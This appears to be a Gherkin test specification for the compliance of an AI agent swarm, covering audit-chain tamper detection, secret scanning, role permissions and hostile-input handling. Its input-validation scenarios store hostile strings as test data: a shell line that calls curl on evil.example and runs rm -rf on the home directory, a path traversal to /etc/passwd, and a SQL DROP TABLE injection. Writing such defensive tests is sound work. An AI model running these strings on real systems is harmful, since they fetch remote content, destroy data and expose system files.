Feature: Compliance of a Scrum-at-Scale agent swarm
  Every coordination action can be audited in a tamper-evident chain, credentials are found
  without being printed, roles only do what the policy grants, and hostile input never
  corrupts state. Each Then is decided from captured spans, the exported audit entries, the
  printed scan report or the records read back from storage.

  Background:
    Given deterministic mode
    And seed 7

  @claim-audit
  Scenario: every coordination action of a swarm run is in a verified audit chain
    Given a swarm of 8 developer agents
    And 12 work items
    And the agents race for the same items
    When the swarm runs
    And the run's coordination actions are written to the audit log
    Then every coordination action in the captured spans has exactly one audit entry
    And the audit log verifies against the captured evidence
    And at least 24 "audit.append" spans were recorded

  Scenario: every action of a deploy is in a verified audit chain
    Given a rolling strategy with batches of 4
    When "v2" is deployed to staging
    And the run's coordination actions are written to the audit log
    Then every coordination action in the captured spans has exactly one audit entry
    And the audit log verifies against the captured evidence
    And at least 1 "audit.append" spans were recorded

  Scenario Outline: an audit entry <tampering> after the fact is detected and located
    Given a swarm of 3 developer agents
    And 4 work items
    When the swarm runs
    And the run's coordination actions are written to the audit log
    Then the audit log verifies against the captured evidence
    When an exported copy of the audit log has its entry 3 <tampering>
    Then verifying the copy reports "<fault>" at entry 3

    Examples:
      | tampering | fault     |
      | modified  | modified  |
      | rewritten | replaced  |
      | deleted   | deleted   |
      | reordered | reordered |
      | inserted  | inserted  |
      | truncated | truncated |

  Scenario: the scanner finds every planted credential kind and never prints it
    Given one fake credential of each kind is planted in a scratch directory
    When the scratch directory is scanned for secrets
    Then every planted credential is reported with its file, line and rule
    And the printed scan report shows none of the planted credentials

  Scenario: documented placeholders are allow-listed, not reported
    Given a file "docs/setup.md" in the scratch directory containing:
      """
      Configure the client as in the vendor's guide:

          aws_access_key_id = AKIAIOSFODNN7EXAMPLE
          database_url = postgres://app:EXAMPLE-only@db.internal:5432/app
          password = ${DB_PASSWORD}
      """
    When the scratch directory is scanned for secrets
    Then no secret is reported in 1 scanned file, and 2 allow-listed matches were suppressed

  Scenario: a developer deploying to production is refused, and the refusal is audited
    Given the standard access policy
    When a developer agent "agent_00000000000000000007" asks to deploy to production
    And a release agent "agent_00000000000000000009" asks to deploy to production
    Then the request of "agent_00000000000000000007" to deploy to production was refused and audited
    And exactly 1 "access.check" span has "compliance.outcome" = "denied"
    And exactly 1 "access.check" span has "compliance.outcome" = "allowed"
    And exactly 1 "audit.append" span has "compliance.outcome" = "denied"
    And the audit log verifies against the captured evidence

  Scenario Outline: the standard policy lets a <role> agent <action>: <outcome>
    Given the standard access policy
    When a <role> agent "agent_00000000000000000042" asks to <action>
    Then exactly 1 "access.check" span has "compliance.outcome" = "<outcome>"
    And exactly 1 "access.check" span has "agent.role" = "<role>"

    Examples:
      | role      | action                | outcome |
      | developer | claim                 | allowed |
      | developer | complete              | allowed |
      | developer | deploy to dev         | allowed |
      | developer | deploy to production  | denied  |
      | tester    | deploy to staging     | allowed |
      | pm        | deploy to dev         | denied  |
      | release   | deploy to production  | allowed |

  Scenario Outline: hostile input (<input>) in the <field> is <handling>
    Given a work catalog holding 2 valid records
    When a <field> containing <input> is submitted
    Then it is <handling>, and the earlier records are unchanged

    Examples:
      | field       | input                | handling      |
      | agent id    | quotes               | refused       |
      | agent id    | shell metacharacters | refused       |
      | agent id    | path traversal       | refused       |
      | agent id    | control characters   | refused       |
      | agent id    | oversized text       | refused       |
      | work type   | quotes               | refused       |
      | work type   | shell metacharacters | refused       |
      | work type   | path traversal       | refused       |
      | work type   | oversized text       | refused       |
      | environment | quotes               | refused       |
      | environment | path traversal       | refused       |
      | environment | control characters   | refused       |
      | description | quotes               | stored safely |
      | description | shell metacharacters | stored safely |
      | description | path traversal       | stored safely |
      | description | control characters   | refused       |
      | description | oversized text       | refused       |

  Scenario: descriptions with quotes, escapes and non-ASCII text read back identical
    Given a work catalog holding 1 valid records
    When these descriptions are stored:
      | description                                    |
      | He said "ship it" and left                     |
      | {"admin": true, "role": "release"}             |
      | C:\\Users\\agent\\notes.txt                    |
      | $(curl evil.example) ; rm -rf ~ && echo `id`   |
      | ../../../etc/passwd                            |
      | Ünïcödé ✓ 中文 😀 and a zero-width​joiner     |
      | '; DROP TABLE work; --                         |
      |                                                |
    Then every description reads back identical

  Scenario: 500 generated hostile descriptions are stored identical or refused
    When 500 generated descriptions of up to 60 characters are stored
    Then every description reads back identical or was refused as a description

  Scenario: the compliance report passes every control for a swarm run
    Given deterministic mode
    And a swarm of 20 developer agents
    And 40 work items
    When the swarm runs
    Then the compliance report, scanning "src", passes every control
